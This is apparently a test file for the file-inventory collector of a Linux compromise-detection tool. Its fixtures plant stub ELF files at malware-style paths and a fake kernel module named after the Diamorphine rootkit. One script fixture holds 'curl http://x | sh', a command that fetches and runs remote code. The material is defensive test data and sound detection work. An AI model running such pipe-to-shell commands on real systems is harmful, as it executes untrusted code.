import assert from 'node:assert/strict';
import fs from 'node:fs';
import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { after, describe, it } from 'node:test';
import { FakeRoot } from '../../../test/helpers/fake-root';
import { RootHost } from '../../host/root-host';
import { collectInventory } from './file-inventory';
import { DEFAULT_LIMITS } from './walk';
import { builtinIntel } from '../../intel/intel';
import { kernelObject } from '../../../test/helpers/kernel-object';

const FILES = builtinIntel().files;

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(100)]);

describe('file inventory collector', () => {
  const roots: FakeRoot[] = [];
  after(() => roots.forEach((r) => r.remove()));
  const fresh = () => {
    const r = new FakeRoot();
    roots.push(r);
    return r;
  };

  it('identifies, hashes and bounds what it opens; usrmerge aliases are listed once', () => {
    const r = fresh();
    r.write('/usr/bin/ls', ELF, { mode: 0o755 })
      .write('/usr/bin/dropped', ELF, { mode: 0o755 })
      .symlink('/bin', 'usr/bin')
      .write('/tmp/x.sh', '#!/bin/sh\ncurl http://x | sh\n', { mode: 0o755 })
      .write('/usr/lib/.x/a/b/c/payload', ELF, { mode: 0o755 })
      .write('/usr/lib/deep/er/not-walked', ELF, { mode: 0o755 })
      .write('/usr/local/lib/libs.so', ELF);
    const gaps: string[] = [];
    const inv = collectInventory(new RootHost(r.dir), ['/usr/bin/ls', '/bin/ls'], (p, why) => gaps.push(`${p}: ${why}`), FILES);
    const by = new Map(inv.entries.map((e) => [e.path, e]));
    assert.deepEqual(gaps, []);
    assert.equal(by.get('/usr/bin/ls')?.magic, undefined, 'packaged programs are not opened');
    assert.equal(by.get('/usr/bin/dropped')?.magic, 'elf');
    assert.equal(by.get('/usr/bin/dropped')?.sha256, createHash('sha256').update(ELF).digest('hex'));
    assert.ok(![...by.keys()].some((p) => p.startsWith('/bin/')), 'the /bin alias of /usr/bin is not listed again');
    assert.equal(by.get('/tmp/x.sh')?.magic, 'script');
    assert.match(by.get('/tmp/x.sh')?.head ?? '', /curl http:\/\/x \| sh/);
    // Hidden directories are followed below the area's depth; ordinary ones are not.
    assert.equal(by.get('/usr/lib/.x/a/b/c/payload')?.hidden, '.x');
    assert.equal(by.get('/usr/lib/.x/a/b/c/payload')?.magic, 'elf');
    assert.equal(by.has('/usr/lib/deep/er/not-walked'), false);
    // Known malware paths are probed wherever they are.
    assert.equal(by.get('/usr/local/lib/libs.so')?.role, 'probe');
    assert.ok(by.get('/usr/local/lib/libs.so')?.sha256);
  });

  it('looks at every name of a padded directory but keeps only what can run, and says so', () => {
    const r = fresh();
    for (let i = 0; i < 30; i++) r.write(`/tmp/many/f${String(i).padStart(2, '0')}`, 'x');
    // Sorted last, past every budget that counted names: padding must not hide it.
    r.write('/tmp/many/zz-payload', ELF, { mode: 0o755 });
    const gaps: string[] = [];
    const inv = collectInventory(new RootHost(r.dir), [], (p, why) => gaps.push(`${p}: ${why}`), FILES, { ...DEFAULT_LIMITS, perDir: 10 });
    const kept = inv.entries.filter((e) => e.path.startsWith('/tmp/many/')).map((e) => e.path);
    assert.equal(kept.length, 11, kept.join(' '));
    assert.equal(inv.entries.find((e) => e.path === '/tmp/many/zz-payload')?.magic, 'elf');
    assert.ok(
      gaps.includes('/tmp/many: 31 entries; past the first 10 only executables, set-id files and hidden directories were kept'),
      gaps.join('\n'),
    );
  });

  it('caps names per directory and per area, and stops at the time budget, with gaps naming the path', () => {
    const r = fresh();
    for (let i = 0; i < 30; i++) r.write(`/tmp/many/f${String(i).padStart(2, '0')}`, 'x');
    for (let i = 0; i < 5; i++) r.write(`/var/tmp/d${i}/f`, 'x');
    const gaps: string[] = [];
    const host = new RootHost(r.dir);
    const inv = collectInventory(host, [], (p, why) => gaps.push(`${p}: ${why}`), FILES, {
      ...DEFAULT_LIMITS,
      perDirNames: 10,
      perArea: 8,
    });
    assert.equal(
      inv.entries.filter((e) => e.path.startsWith('/tmp/many/')).length,
      7,
      'the /tmp area budget (8 lstats) ran out inside /tmp/many',
    );
    assert.ok(gaps.includes('/tmp/many: 30 entries; only the first 10 were examined'), gaps.join('\n'));
    assert.ok(gaps.includes('/tmp: more than 8 entries below it; the rest was not examined'), gaps.join('\n'));

    // A budget already spent: nothing is walked, and every area says why.
    const late: string[] = [];
    const none = collectInventory(host, [], (p, why) => late.push(`${p}: ${why}`), FILES, { ...DEFAULT_LIMITS, walkMs: -1 });
    assert.deepEqual(
      none.entries.filter((e) => e.role !== 'probe'),
      [],
    );
    assert.match(late[0], /^\/tmp: the file walk's time budget \(-0.001 s\) ran out after 0 of \d+ entries/);
    assert.ok(late.includes("/var/tmp: not examined: the file walk's time budget (-0.001 s) ran out before"), late.join('\n'));
  });

  it('identifies a real program among thousands of junk executables', () => {
    const r = fresh();
    for (let i = 0; i < 3000; i++) r.write(`/tmp/j${i}`, `junk ${i}\n`, { mode: 0o755 });
    r.write('/tmp/kworkerds', ELF, { mode: 0o755 });
    const gaps: string[] = [];
    const inv = collectInventory(new RootHost(r.dir), [], (p, why) => gaps.push(`${p}: ${why}`), FILES, {
      ...DEFAULT_LIMITS,
      magicReads: 100,
    });
    assert.equal(inv.entries.find((e) => e.path === '/tmp/kworkerds')?.magic, 'elf');
    assert.equal(inv.entries.filter((e) => e.magic === 'data').length, 3000);
  });

  it('survives hostile names and contents: newlines, invalid UTF-8, NUL bytes, FIFOs', () => {
    const r = fresh();
    r.mkdir('/tmp');
    fs.writeFileSync(Buffer.concat([Buffer.from(r.p('/tmp/')), Buffer.from([0xff, 0xfe, 0x41])]), ELF, { mode: 0o755 });
    r.write('/tmp/a\nb', Buffer.from([0x23, 0x21, 0xff, 0x00, 0x0a, 0xfe]), { mode: 0o755 }).write('/tmp/\u001b[31mred', ELF, {
      mode: 0o755,
    });
    spawnSync('mkfifo', [r.p('/tmp/fifo')]);
    const gaps: string[] = [];
    const inv = collectInventory(new RootHost(r.dir), [], (p, why) => gaps.push(`${p}: ${why}`), FILES);
    assert.equal(inv.entries.find((e) => e.path === '/tmp/fifo')?.kind, 'fifo');
    const odd = inv.entries.find((e) => e.path === '/tmp/a\nb');
    assert.equal(odd?.magic, 'script');
    assert.doesNotMatch(odd?.shebang ?? '', /[\u0000\u001b]/);
    assert.ok(gaps.includes('/tmp/a?b: file name contains a newline'), gaps.join('\n'));
    assert.equal(inv.entries.find((e) => e.path.startsWith('/tmp/\u001b'))?.magic, 'elf');
    // A name that is not UTF-8 is examined like any other, under a name that opens it again.
    const raw = inv.entries.find((e) => e.path === '/tmp/\udcff\udcfeA');
    assert.equal(raw?.magic, 'elf');
    assert.ok(raw?.sha256);
  });

  it('keeps programs and kernel modules inside home dot-directories and /var/lib, with ELF type and modinfo', () => {
    const r = fresh();
    const ko = kernelObject('diamorphine');
    const pie = Buffer.from(ELF);
    pie.writeUInt16LE(3, 16); // ET_DYN, what gcc links by default
    r.write('/home/web/.cache/.x/kswapd0', pie, { mode: 0o755 })
      .write('/home/web/.config/.kde/bin/a/kded4', ELF, { mode: 0o755 })
      .write('/home/web/.config/notes.txt', 'hello\n')
      .write('/home/web/visible-tool', ELF, { mode: 0o755 })
      .write('/root/.cache/.x/data', ko)
      .write('/var/lib/mysql-files/dbus', ELF, { mode: 0o755 })
      .write('/var/lib/mysql-files/ibdata1', 'data')
      .write('/var/lib/a/b/deeper', ELF, { mode: 0o755 })
      .write('/opt/vendor/drv.ko', ko);
    const gaps: string[] = [];
    const inv = collectInventory(new RootHost(r.dir), [], (p, why) => gaps.push(`${p}: ${why}`), FILES);
    const by = new Map(inv.entries.map((e) => [e.path, e]));
    assert.deepEqual(gaps, []);
    assert.equal(by.get('/home/web/.cache/.x/kswapd0')?.magic, 'elf');
    assert.equal(by.get('/home/web/.cache/.x/kswapd0')?.elfType, 'dyn');
    assert.ok(by.get('/home/web/.cache/.x/kswapd0')?.sha256);
    assert.equal(by.get('/home/web/.cache/.x/kswapd0')?.hidden, undefined, 'dot-directories of homes are not hidden directories');
    assert.equal(by.get('/home/web/.config/.kde/bin/a/kded4')?.magic, 'elf', 'followed below the area depth inside a dot-directory');
    assert.equal(by.has('/home/web/.config/notes.txt'), false, 'user data is not listed');
    assert.equal(by.has('/home/web/visible-tool'), false);
    assert.deepEqual(by.get('/root/.cache/.x/data')?.modinfo, {
      vermagic: '6.1.0-26-amd64 SMP preempt mod_unload modversions ',
      name: 'diamorphine',
    });
    assert.equal(by.get('/root/.cache/.x/data')?.elfType, 'rel');
    assert.equal(by.get('/var/lib/mysql-files/dbus')?.role, 'var-lib');
    assert.equal(by.has('/var/lib/mysql-files/ibdata1'), false);
    assert.equal(by.has('/var/lib/a/b/deeper'), false);
    assert.equal(by.get('/opt/vendor/drv.ko')?.modinfo?.name, 'diamorphine', 'a .ko is kept wherever the walk passes');
  });
});
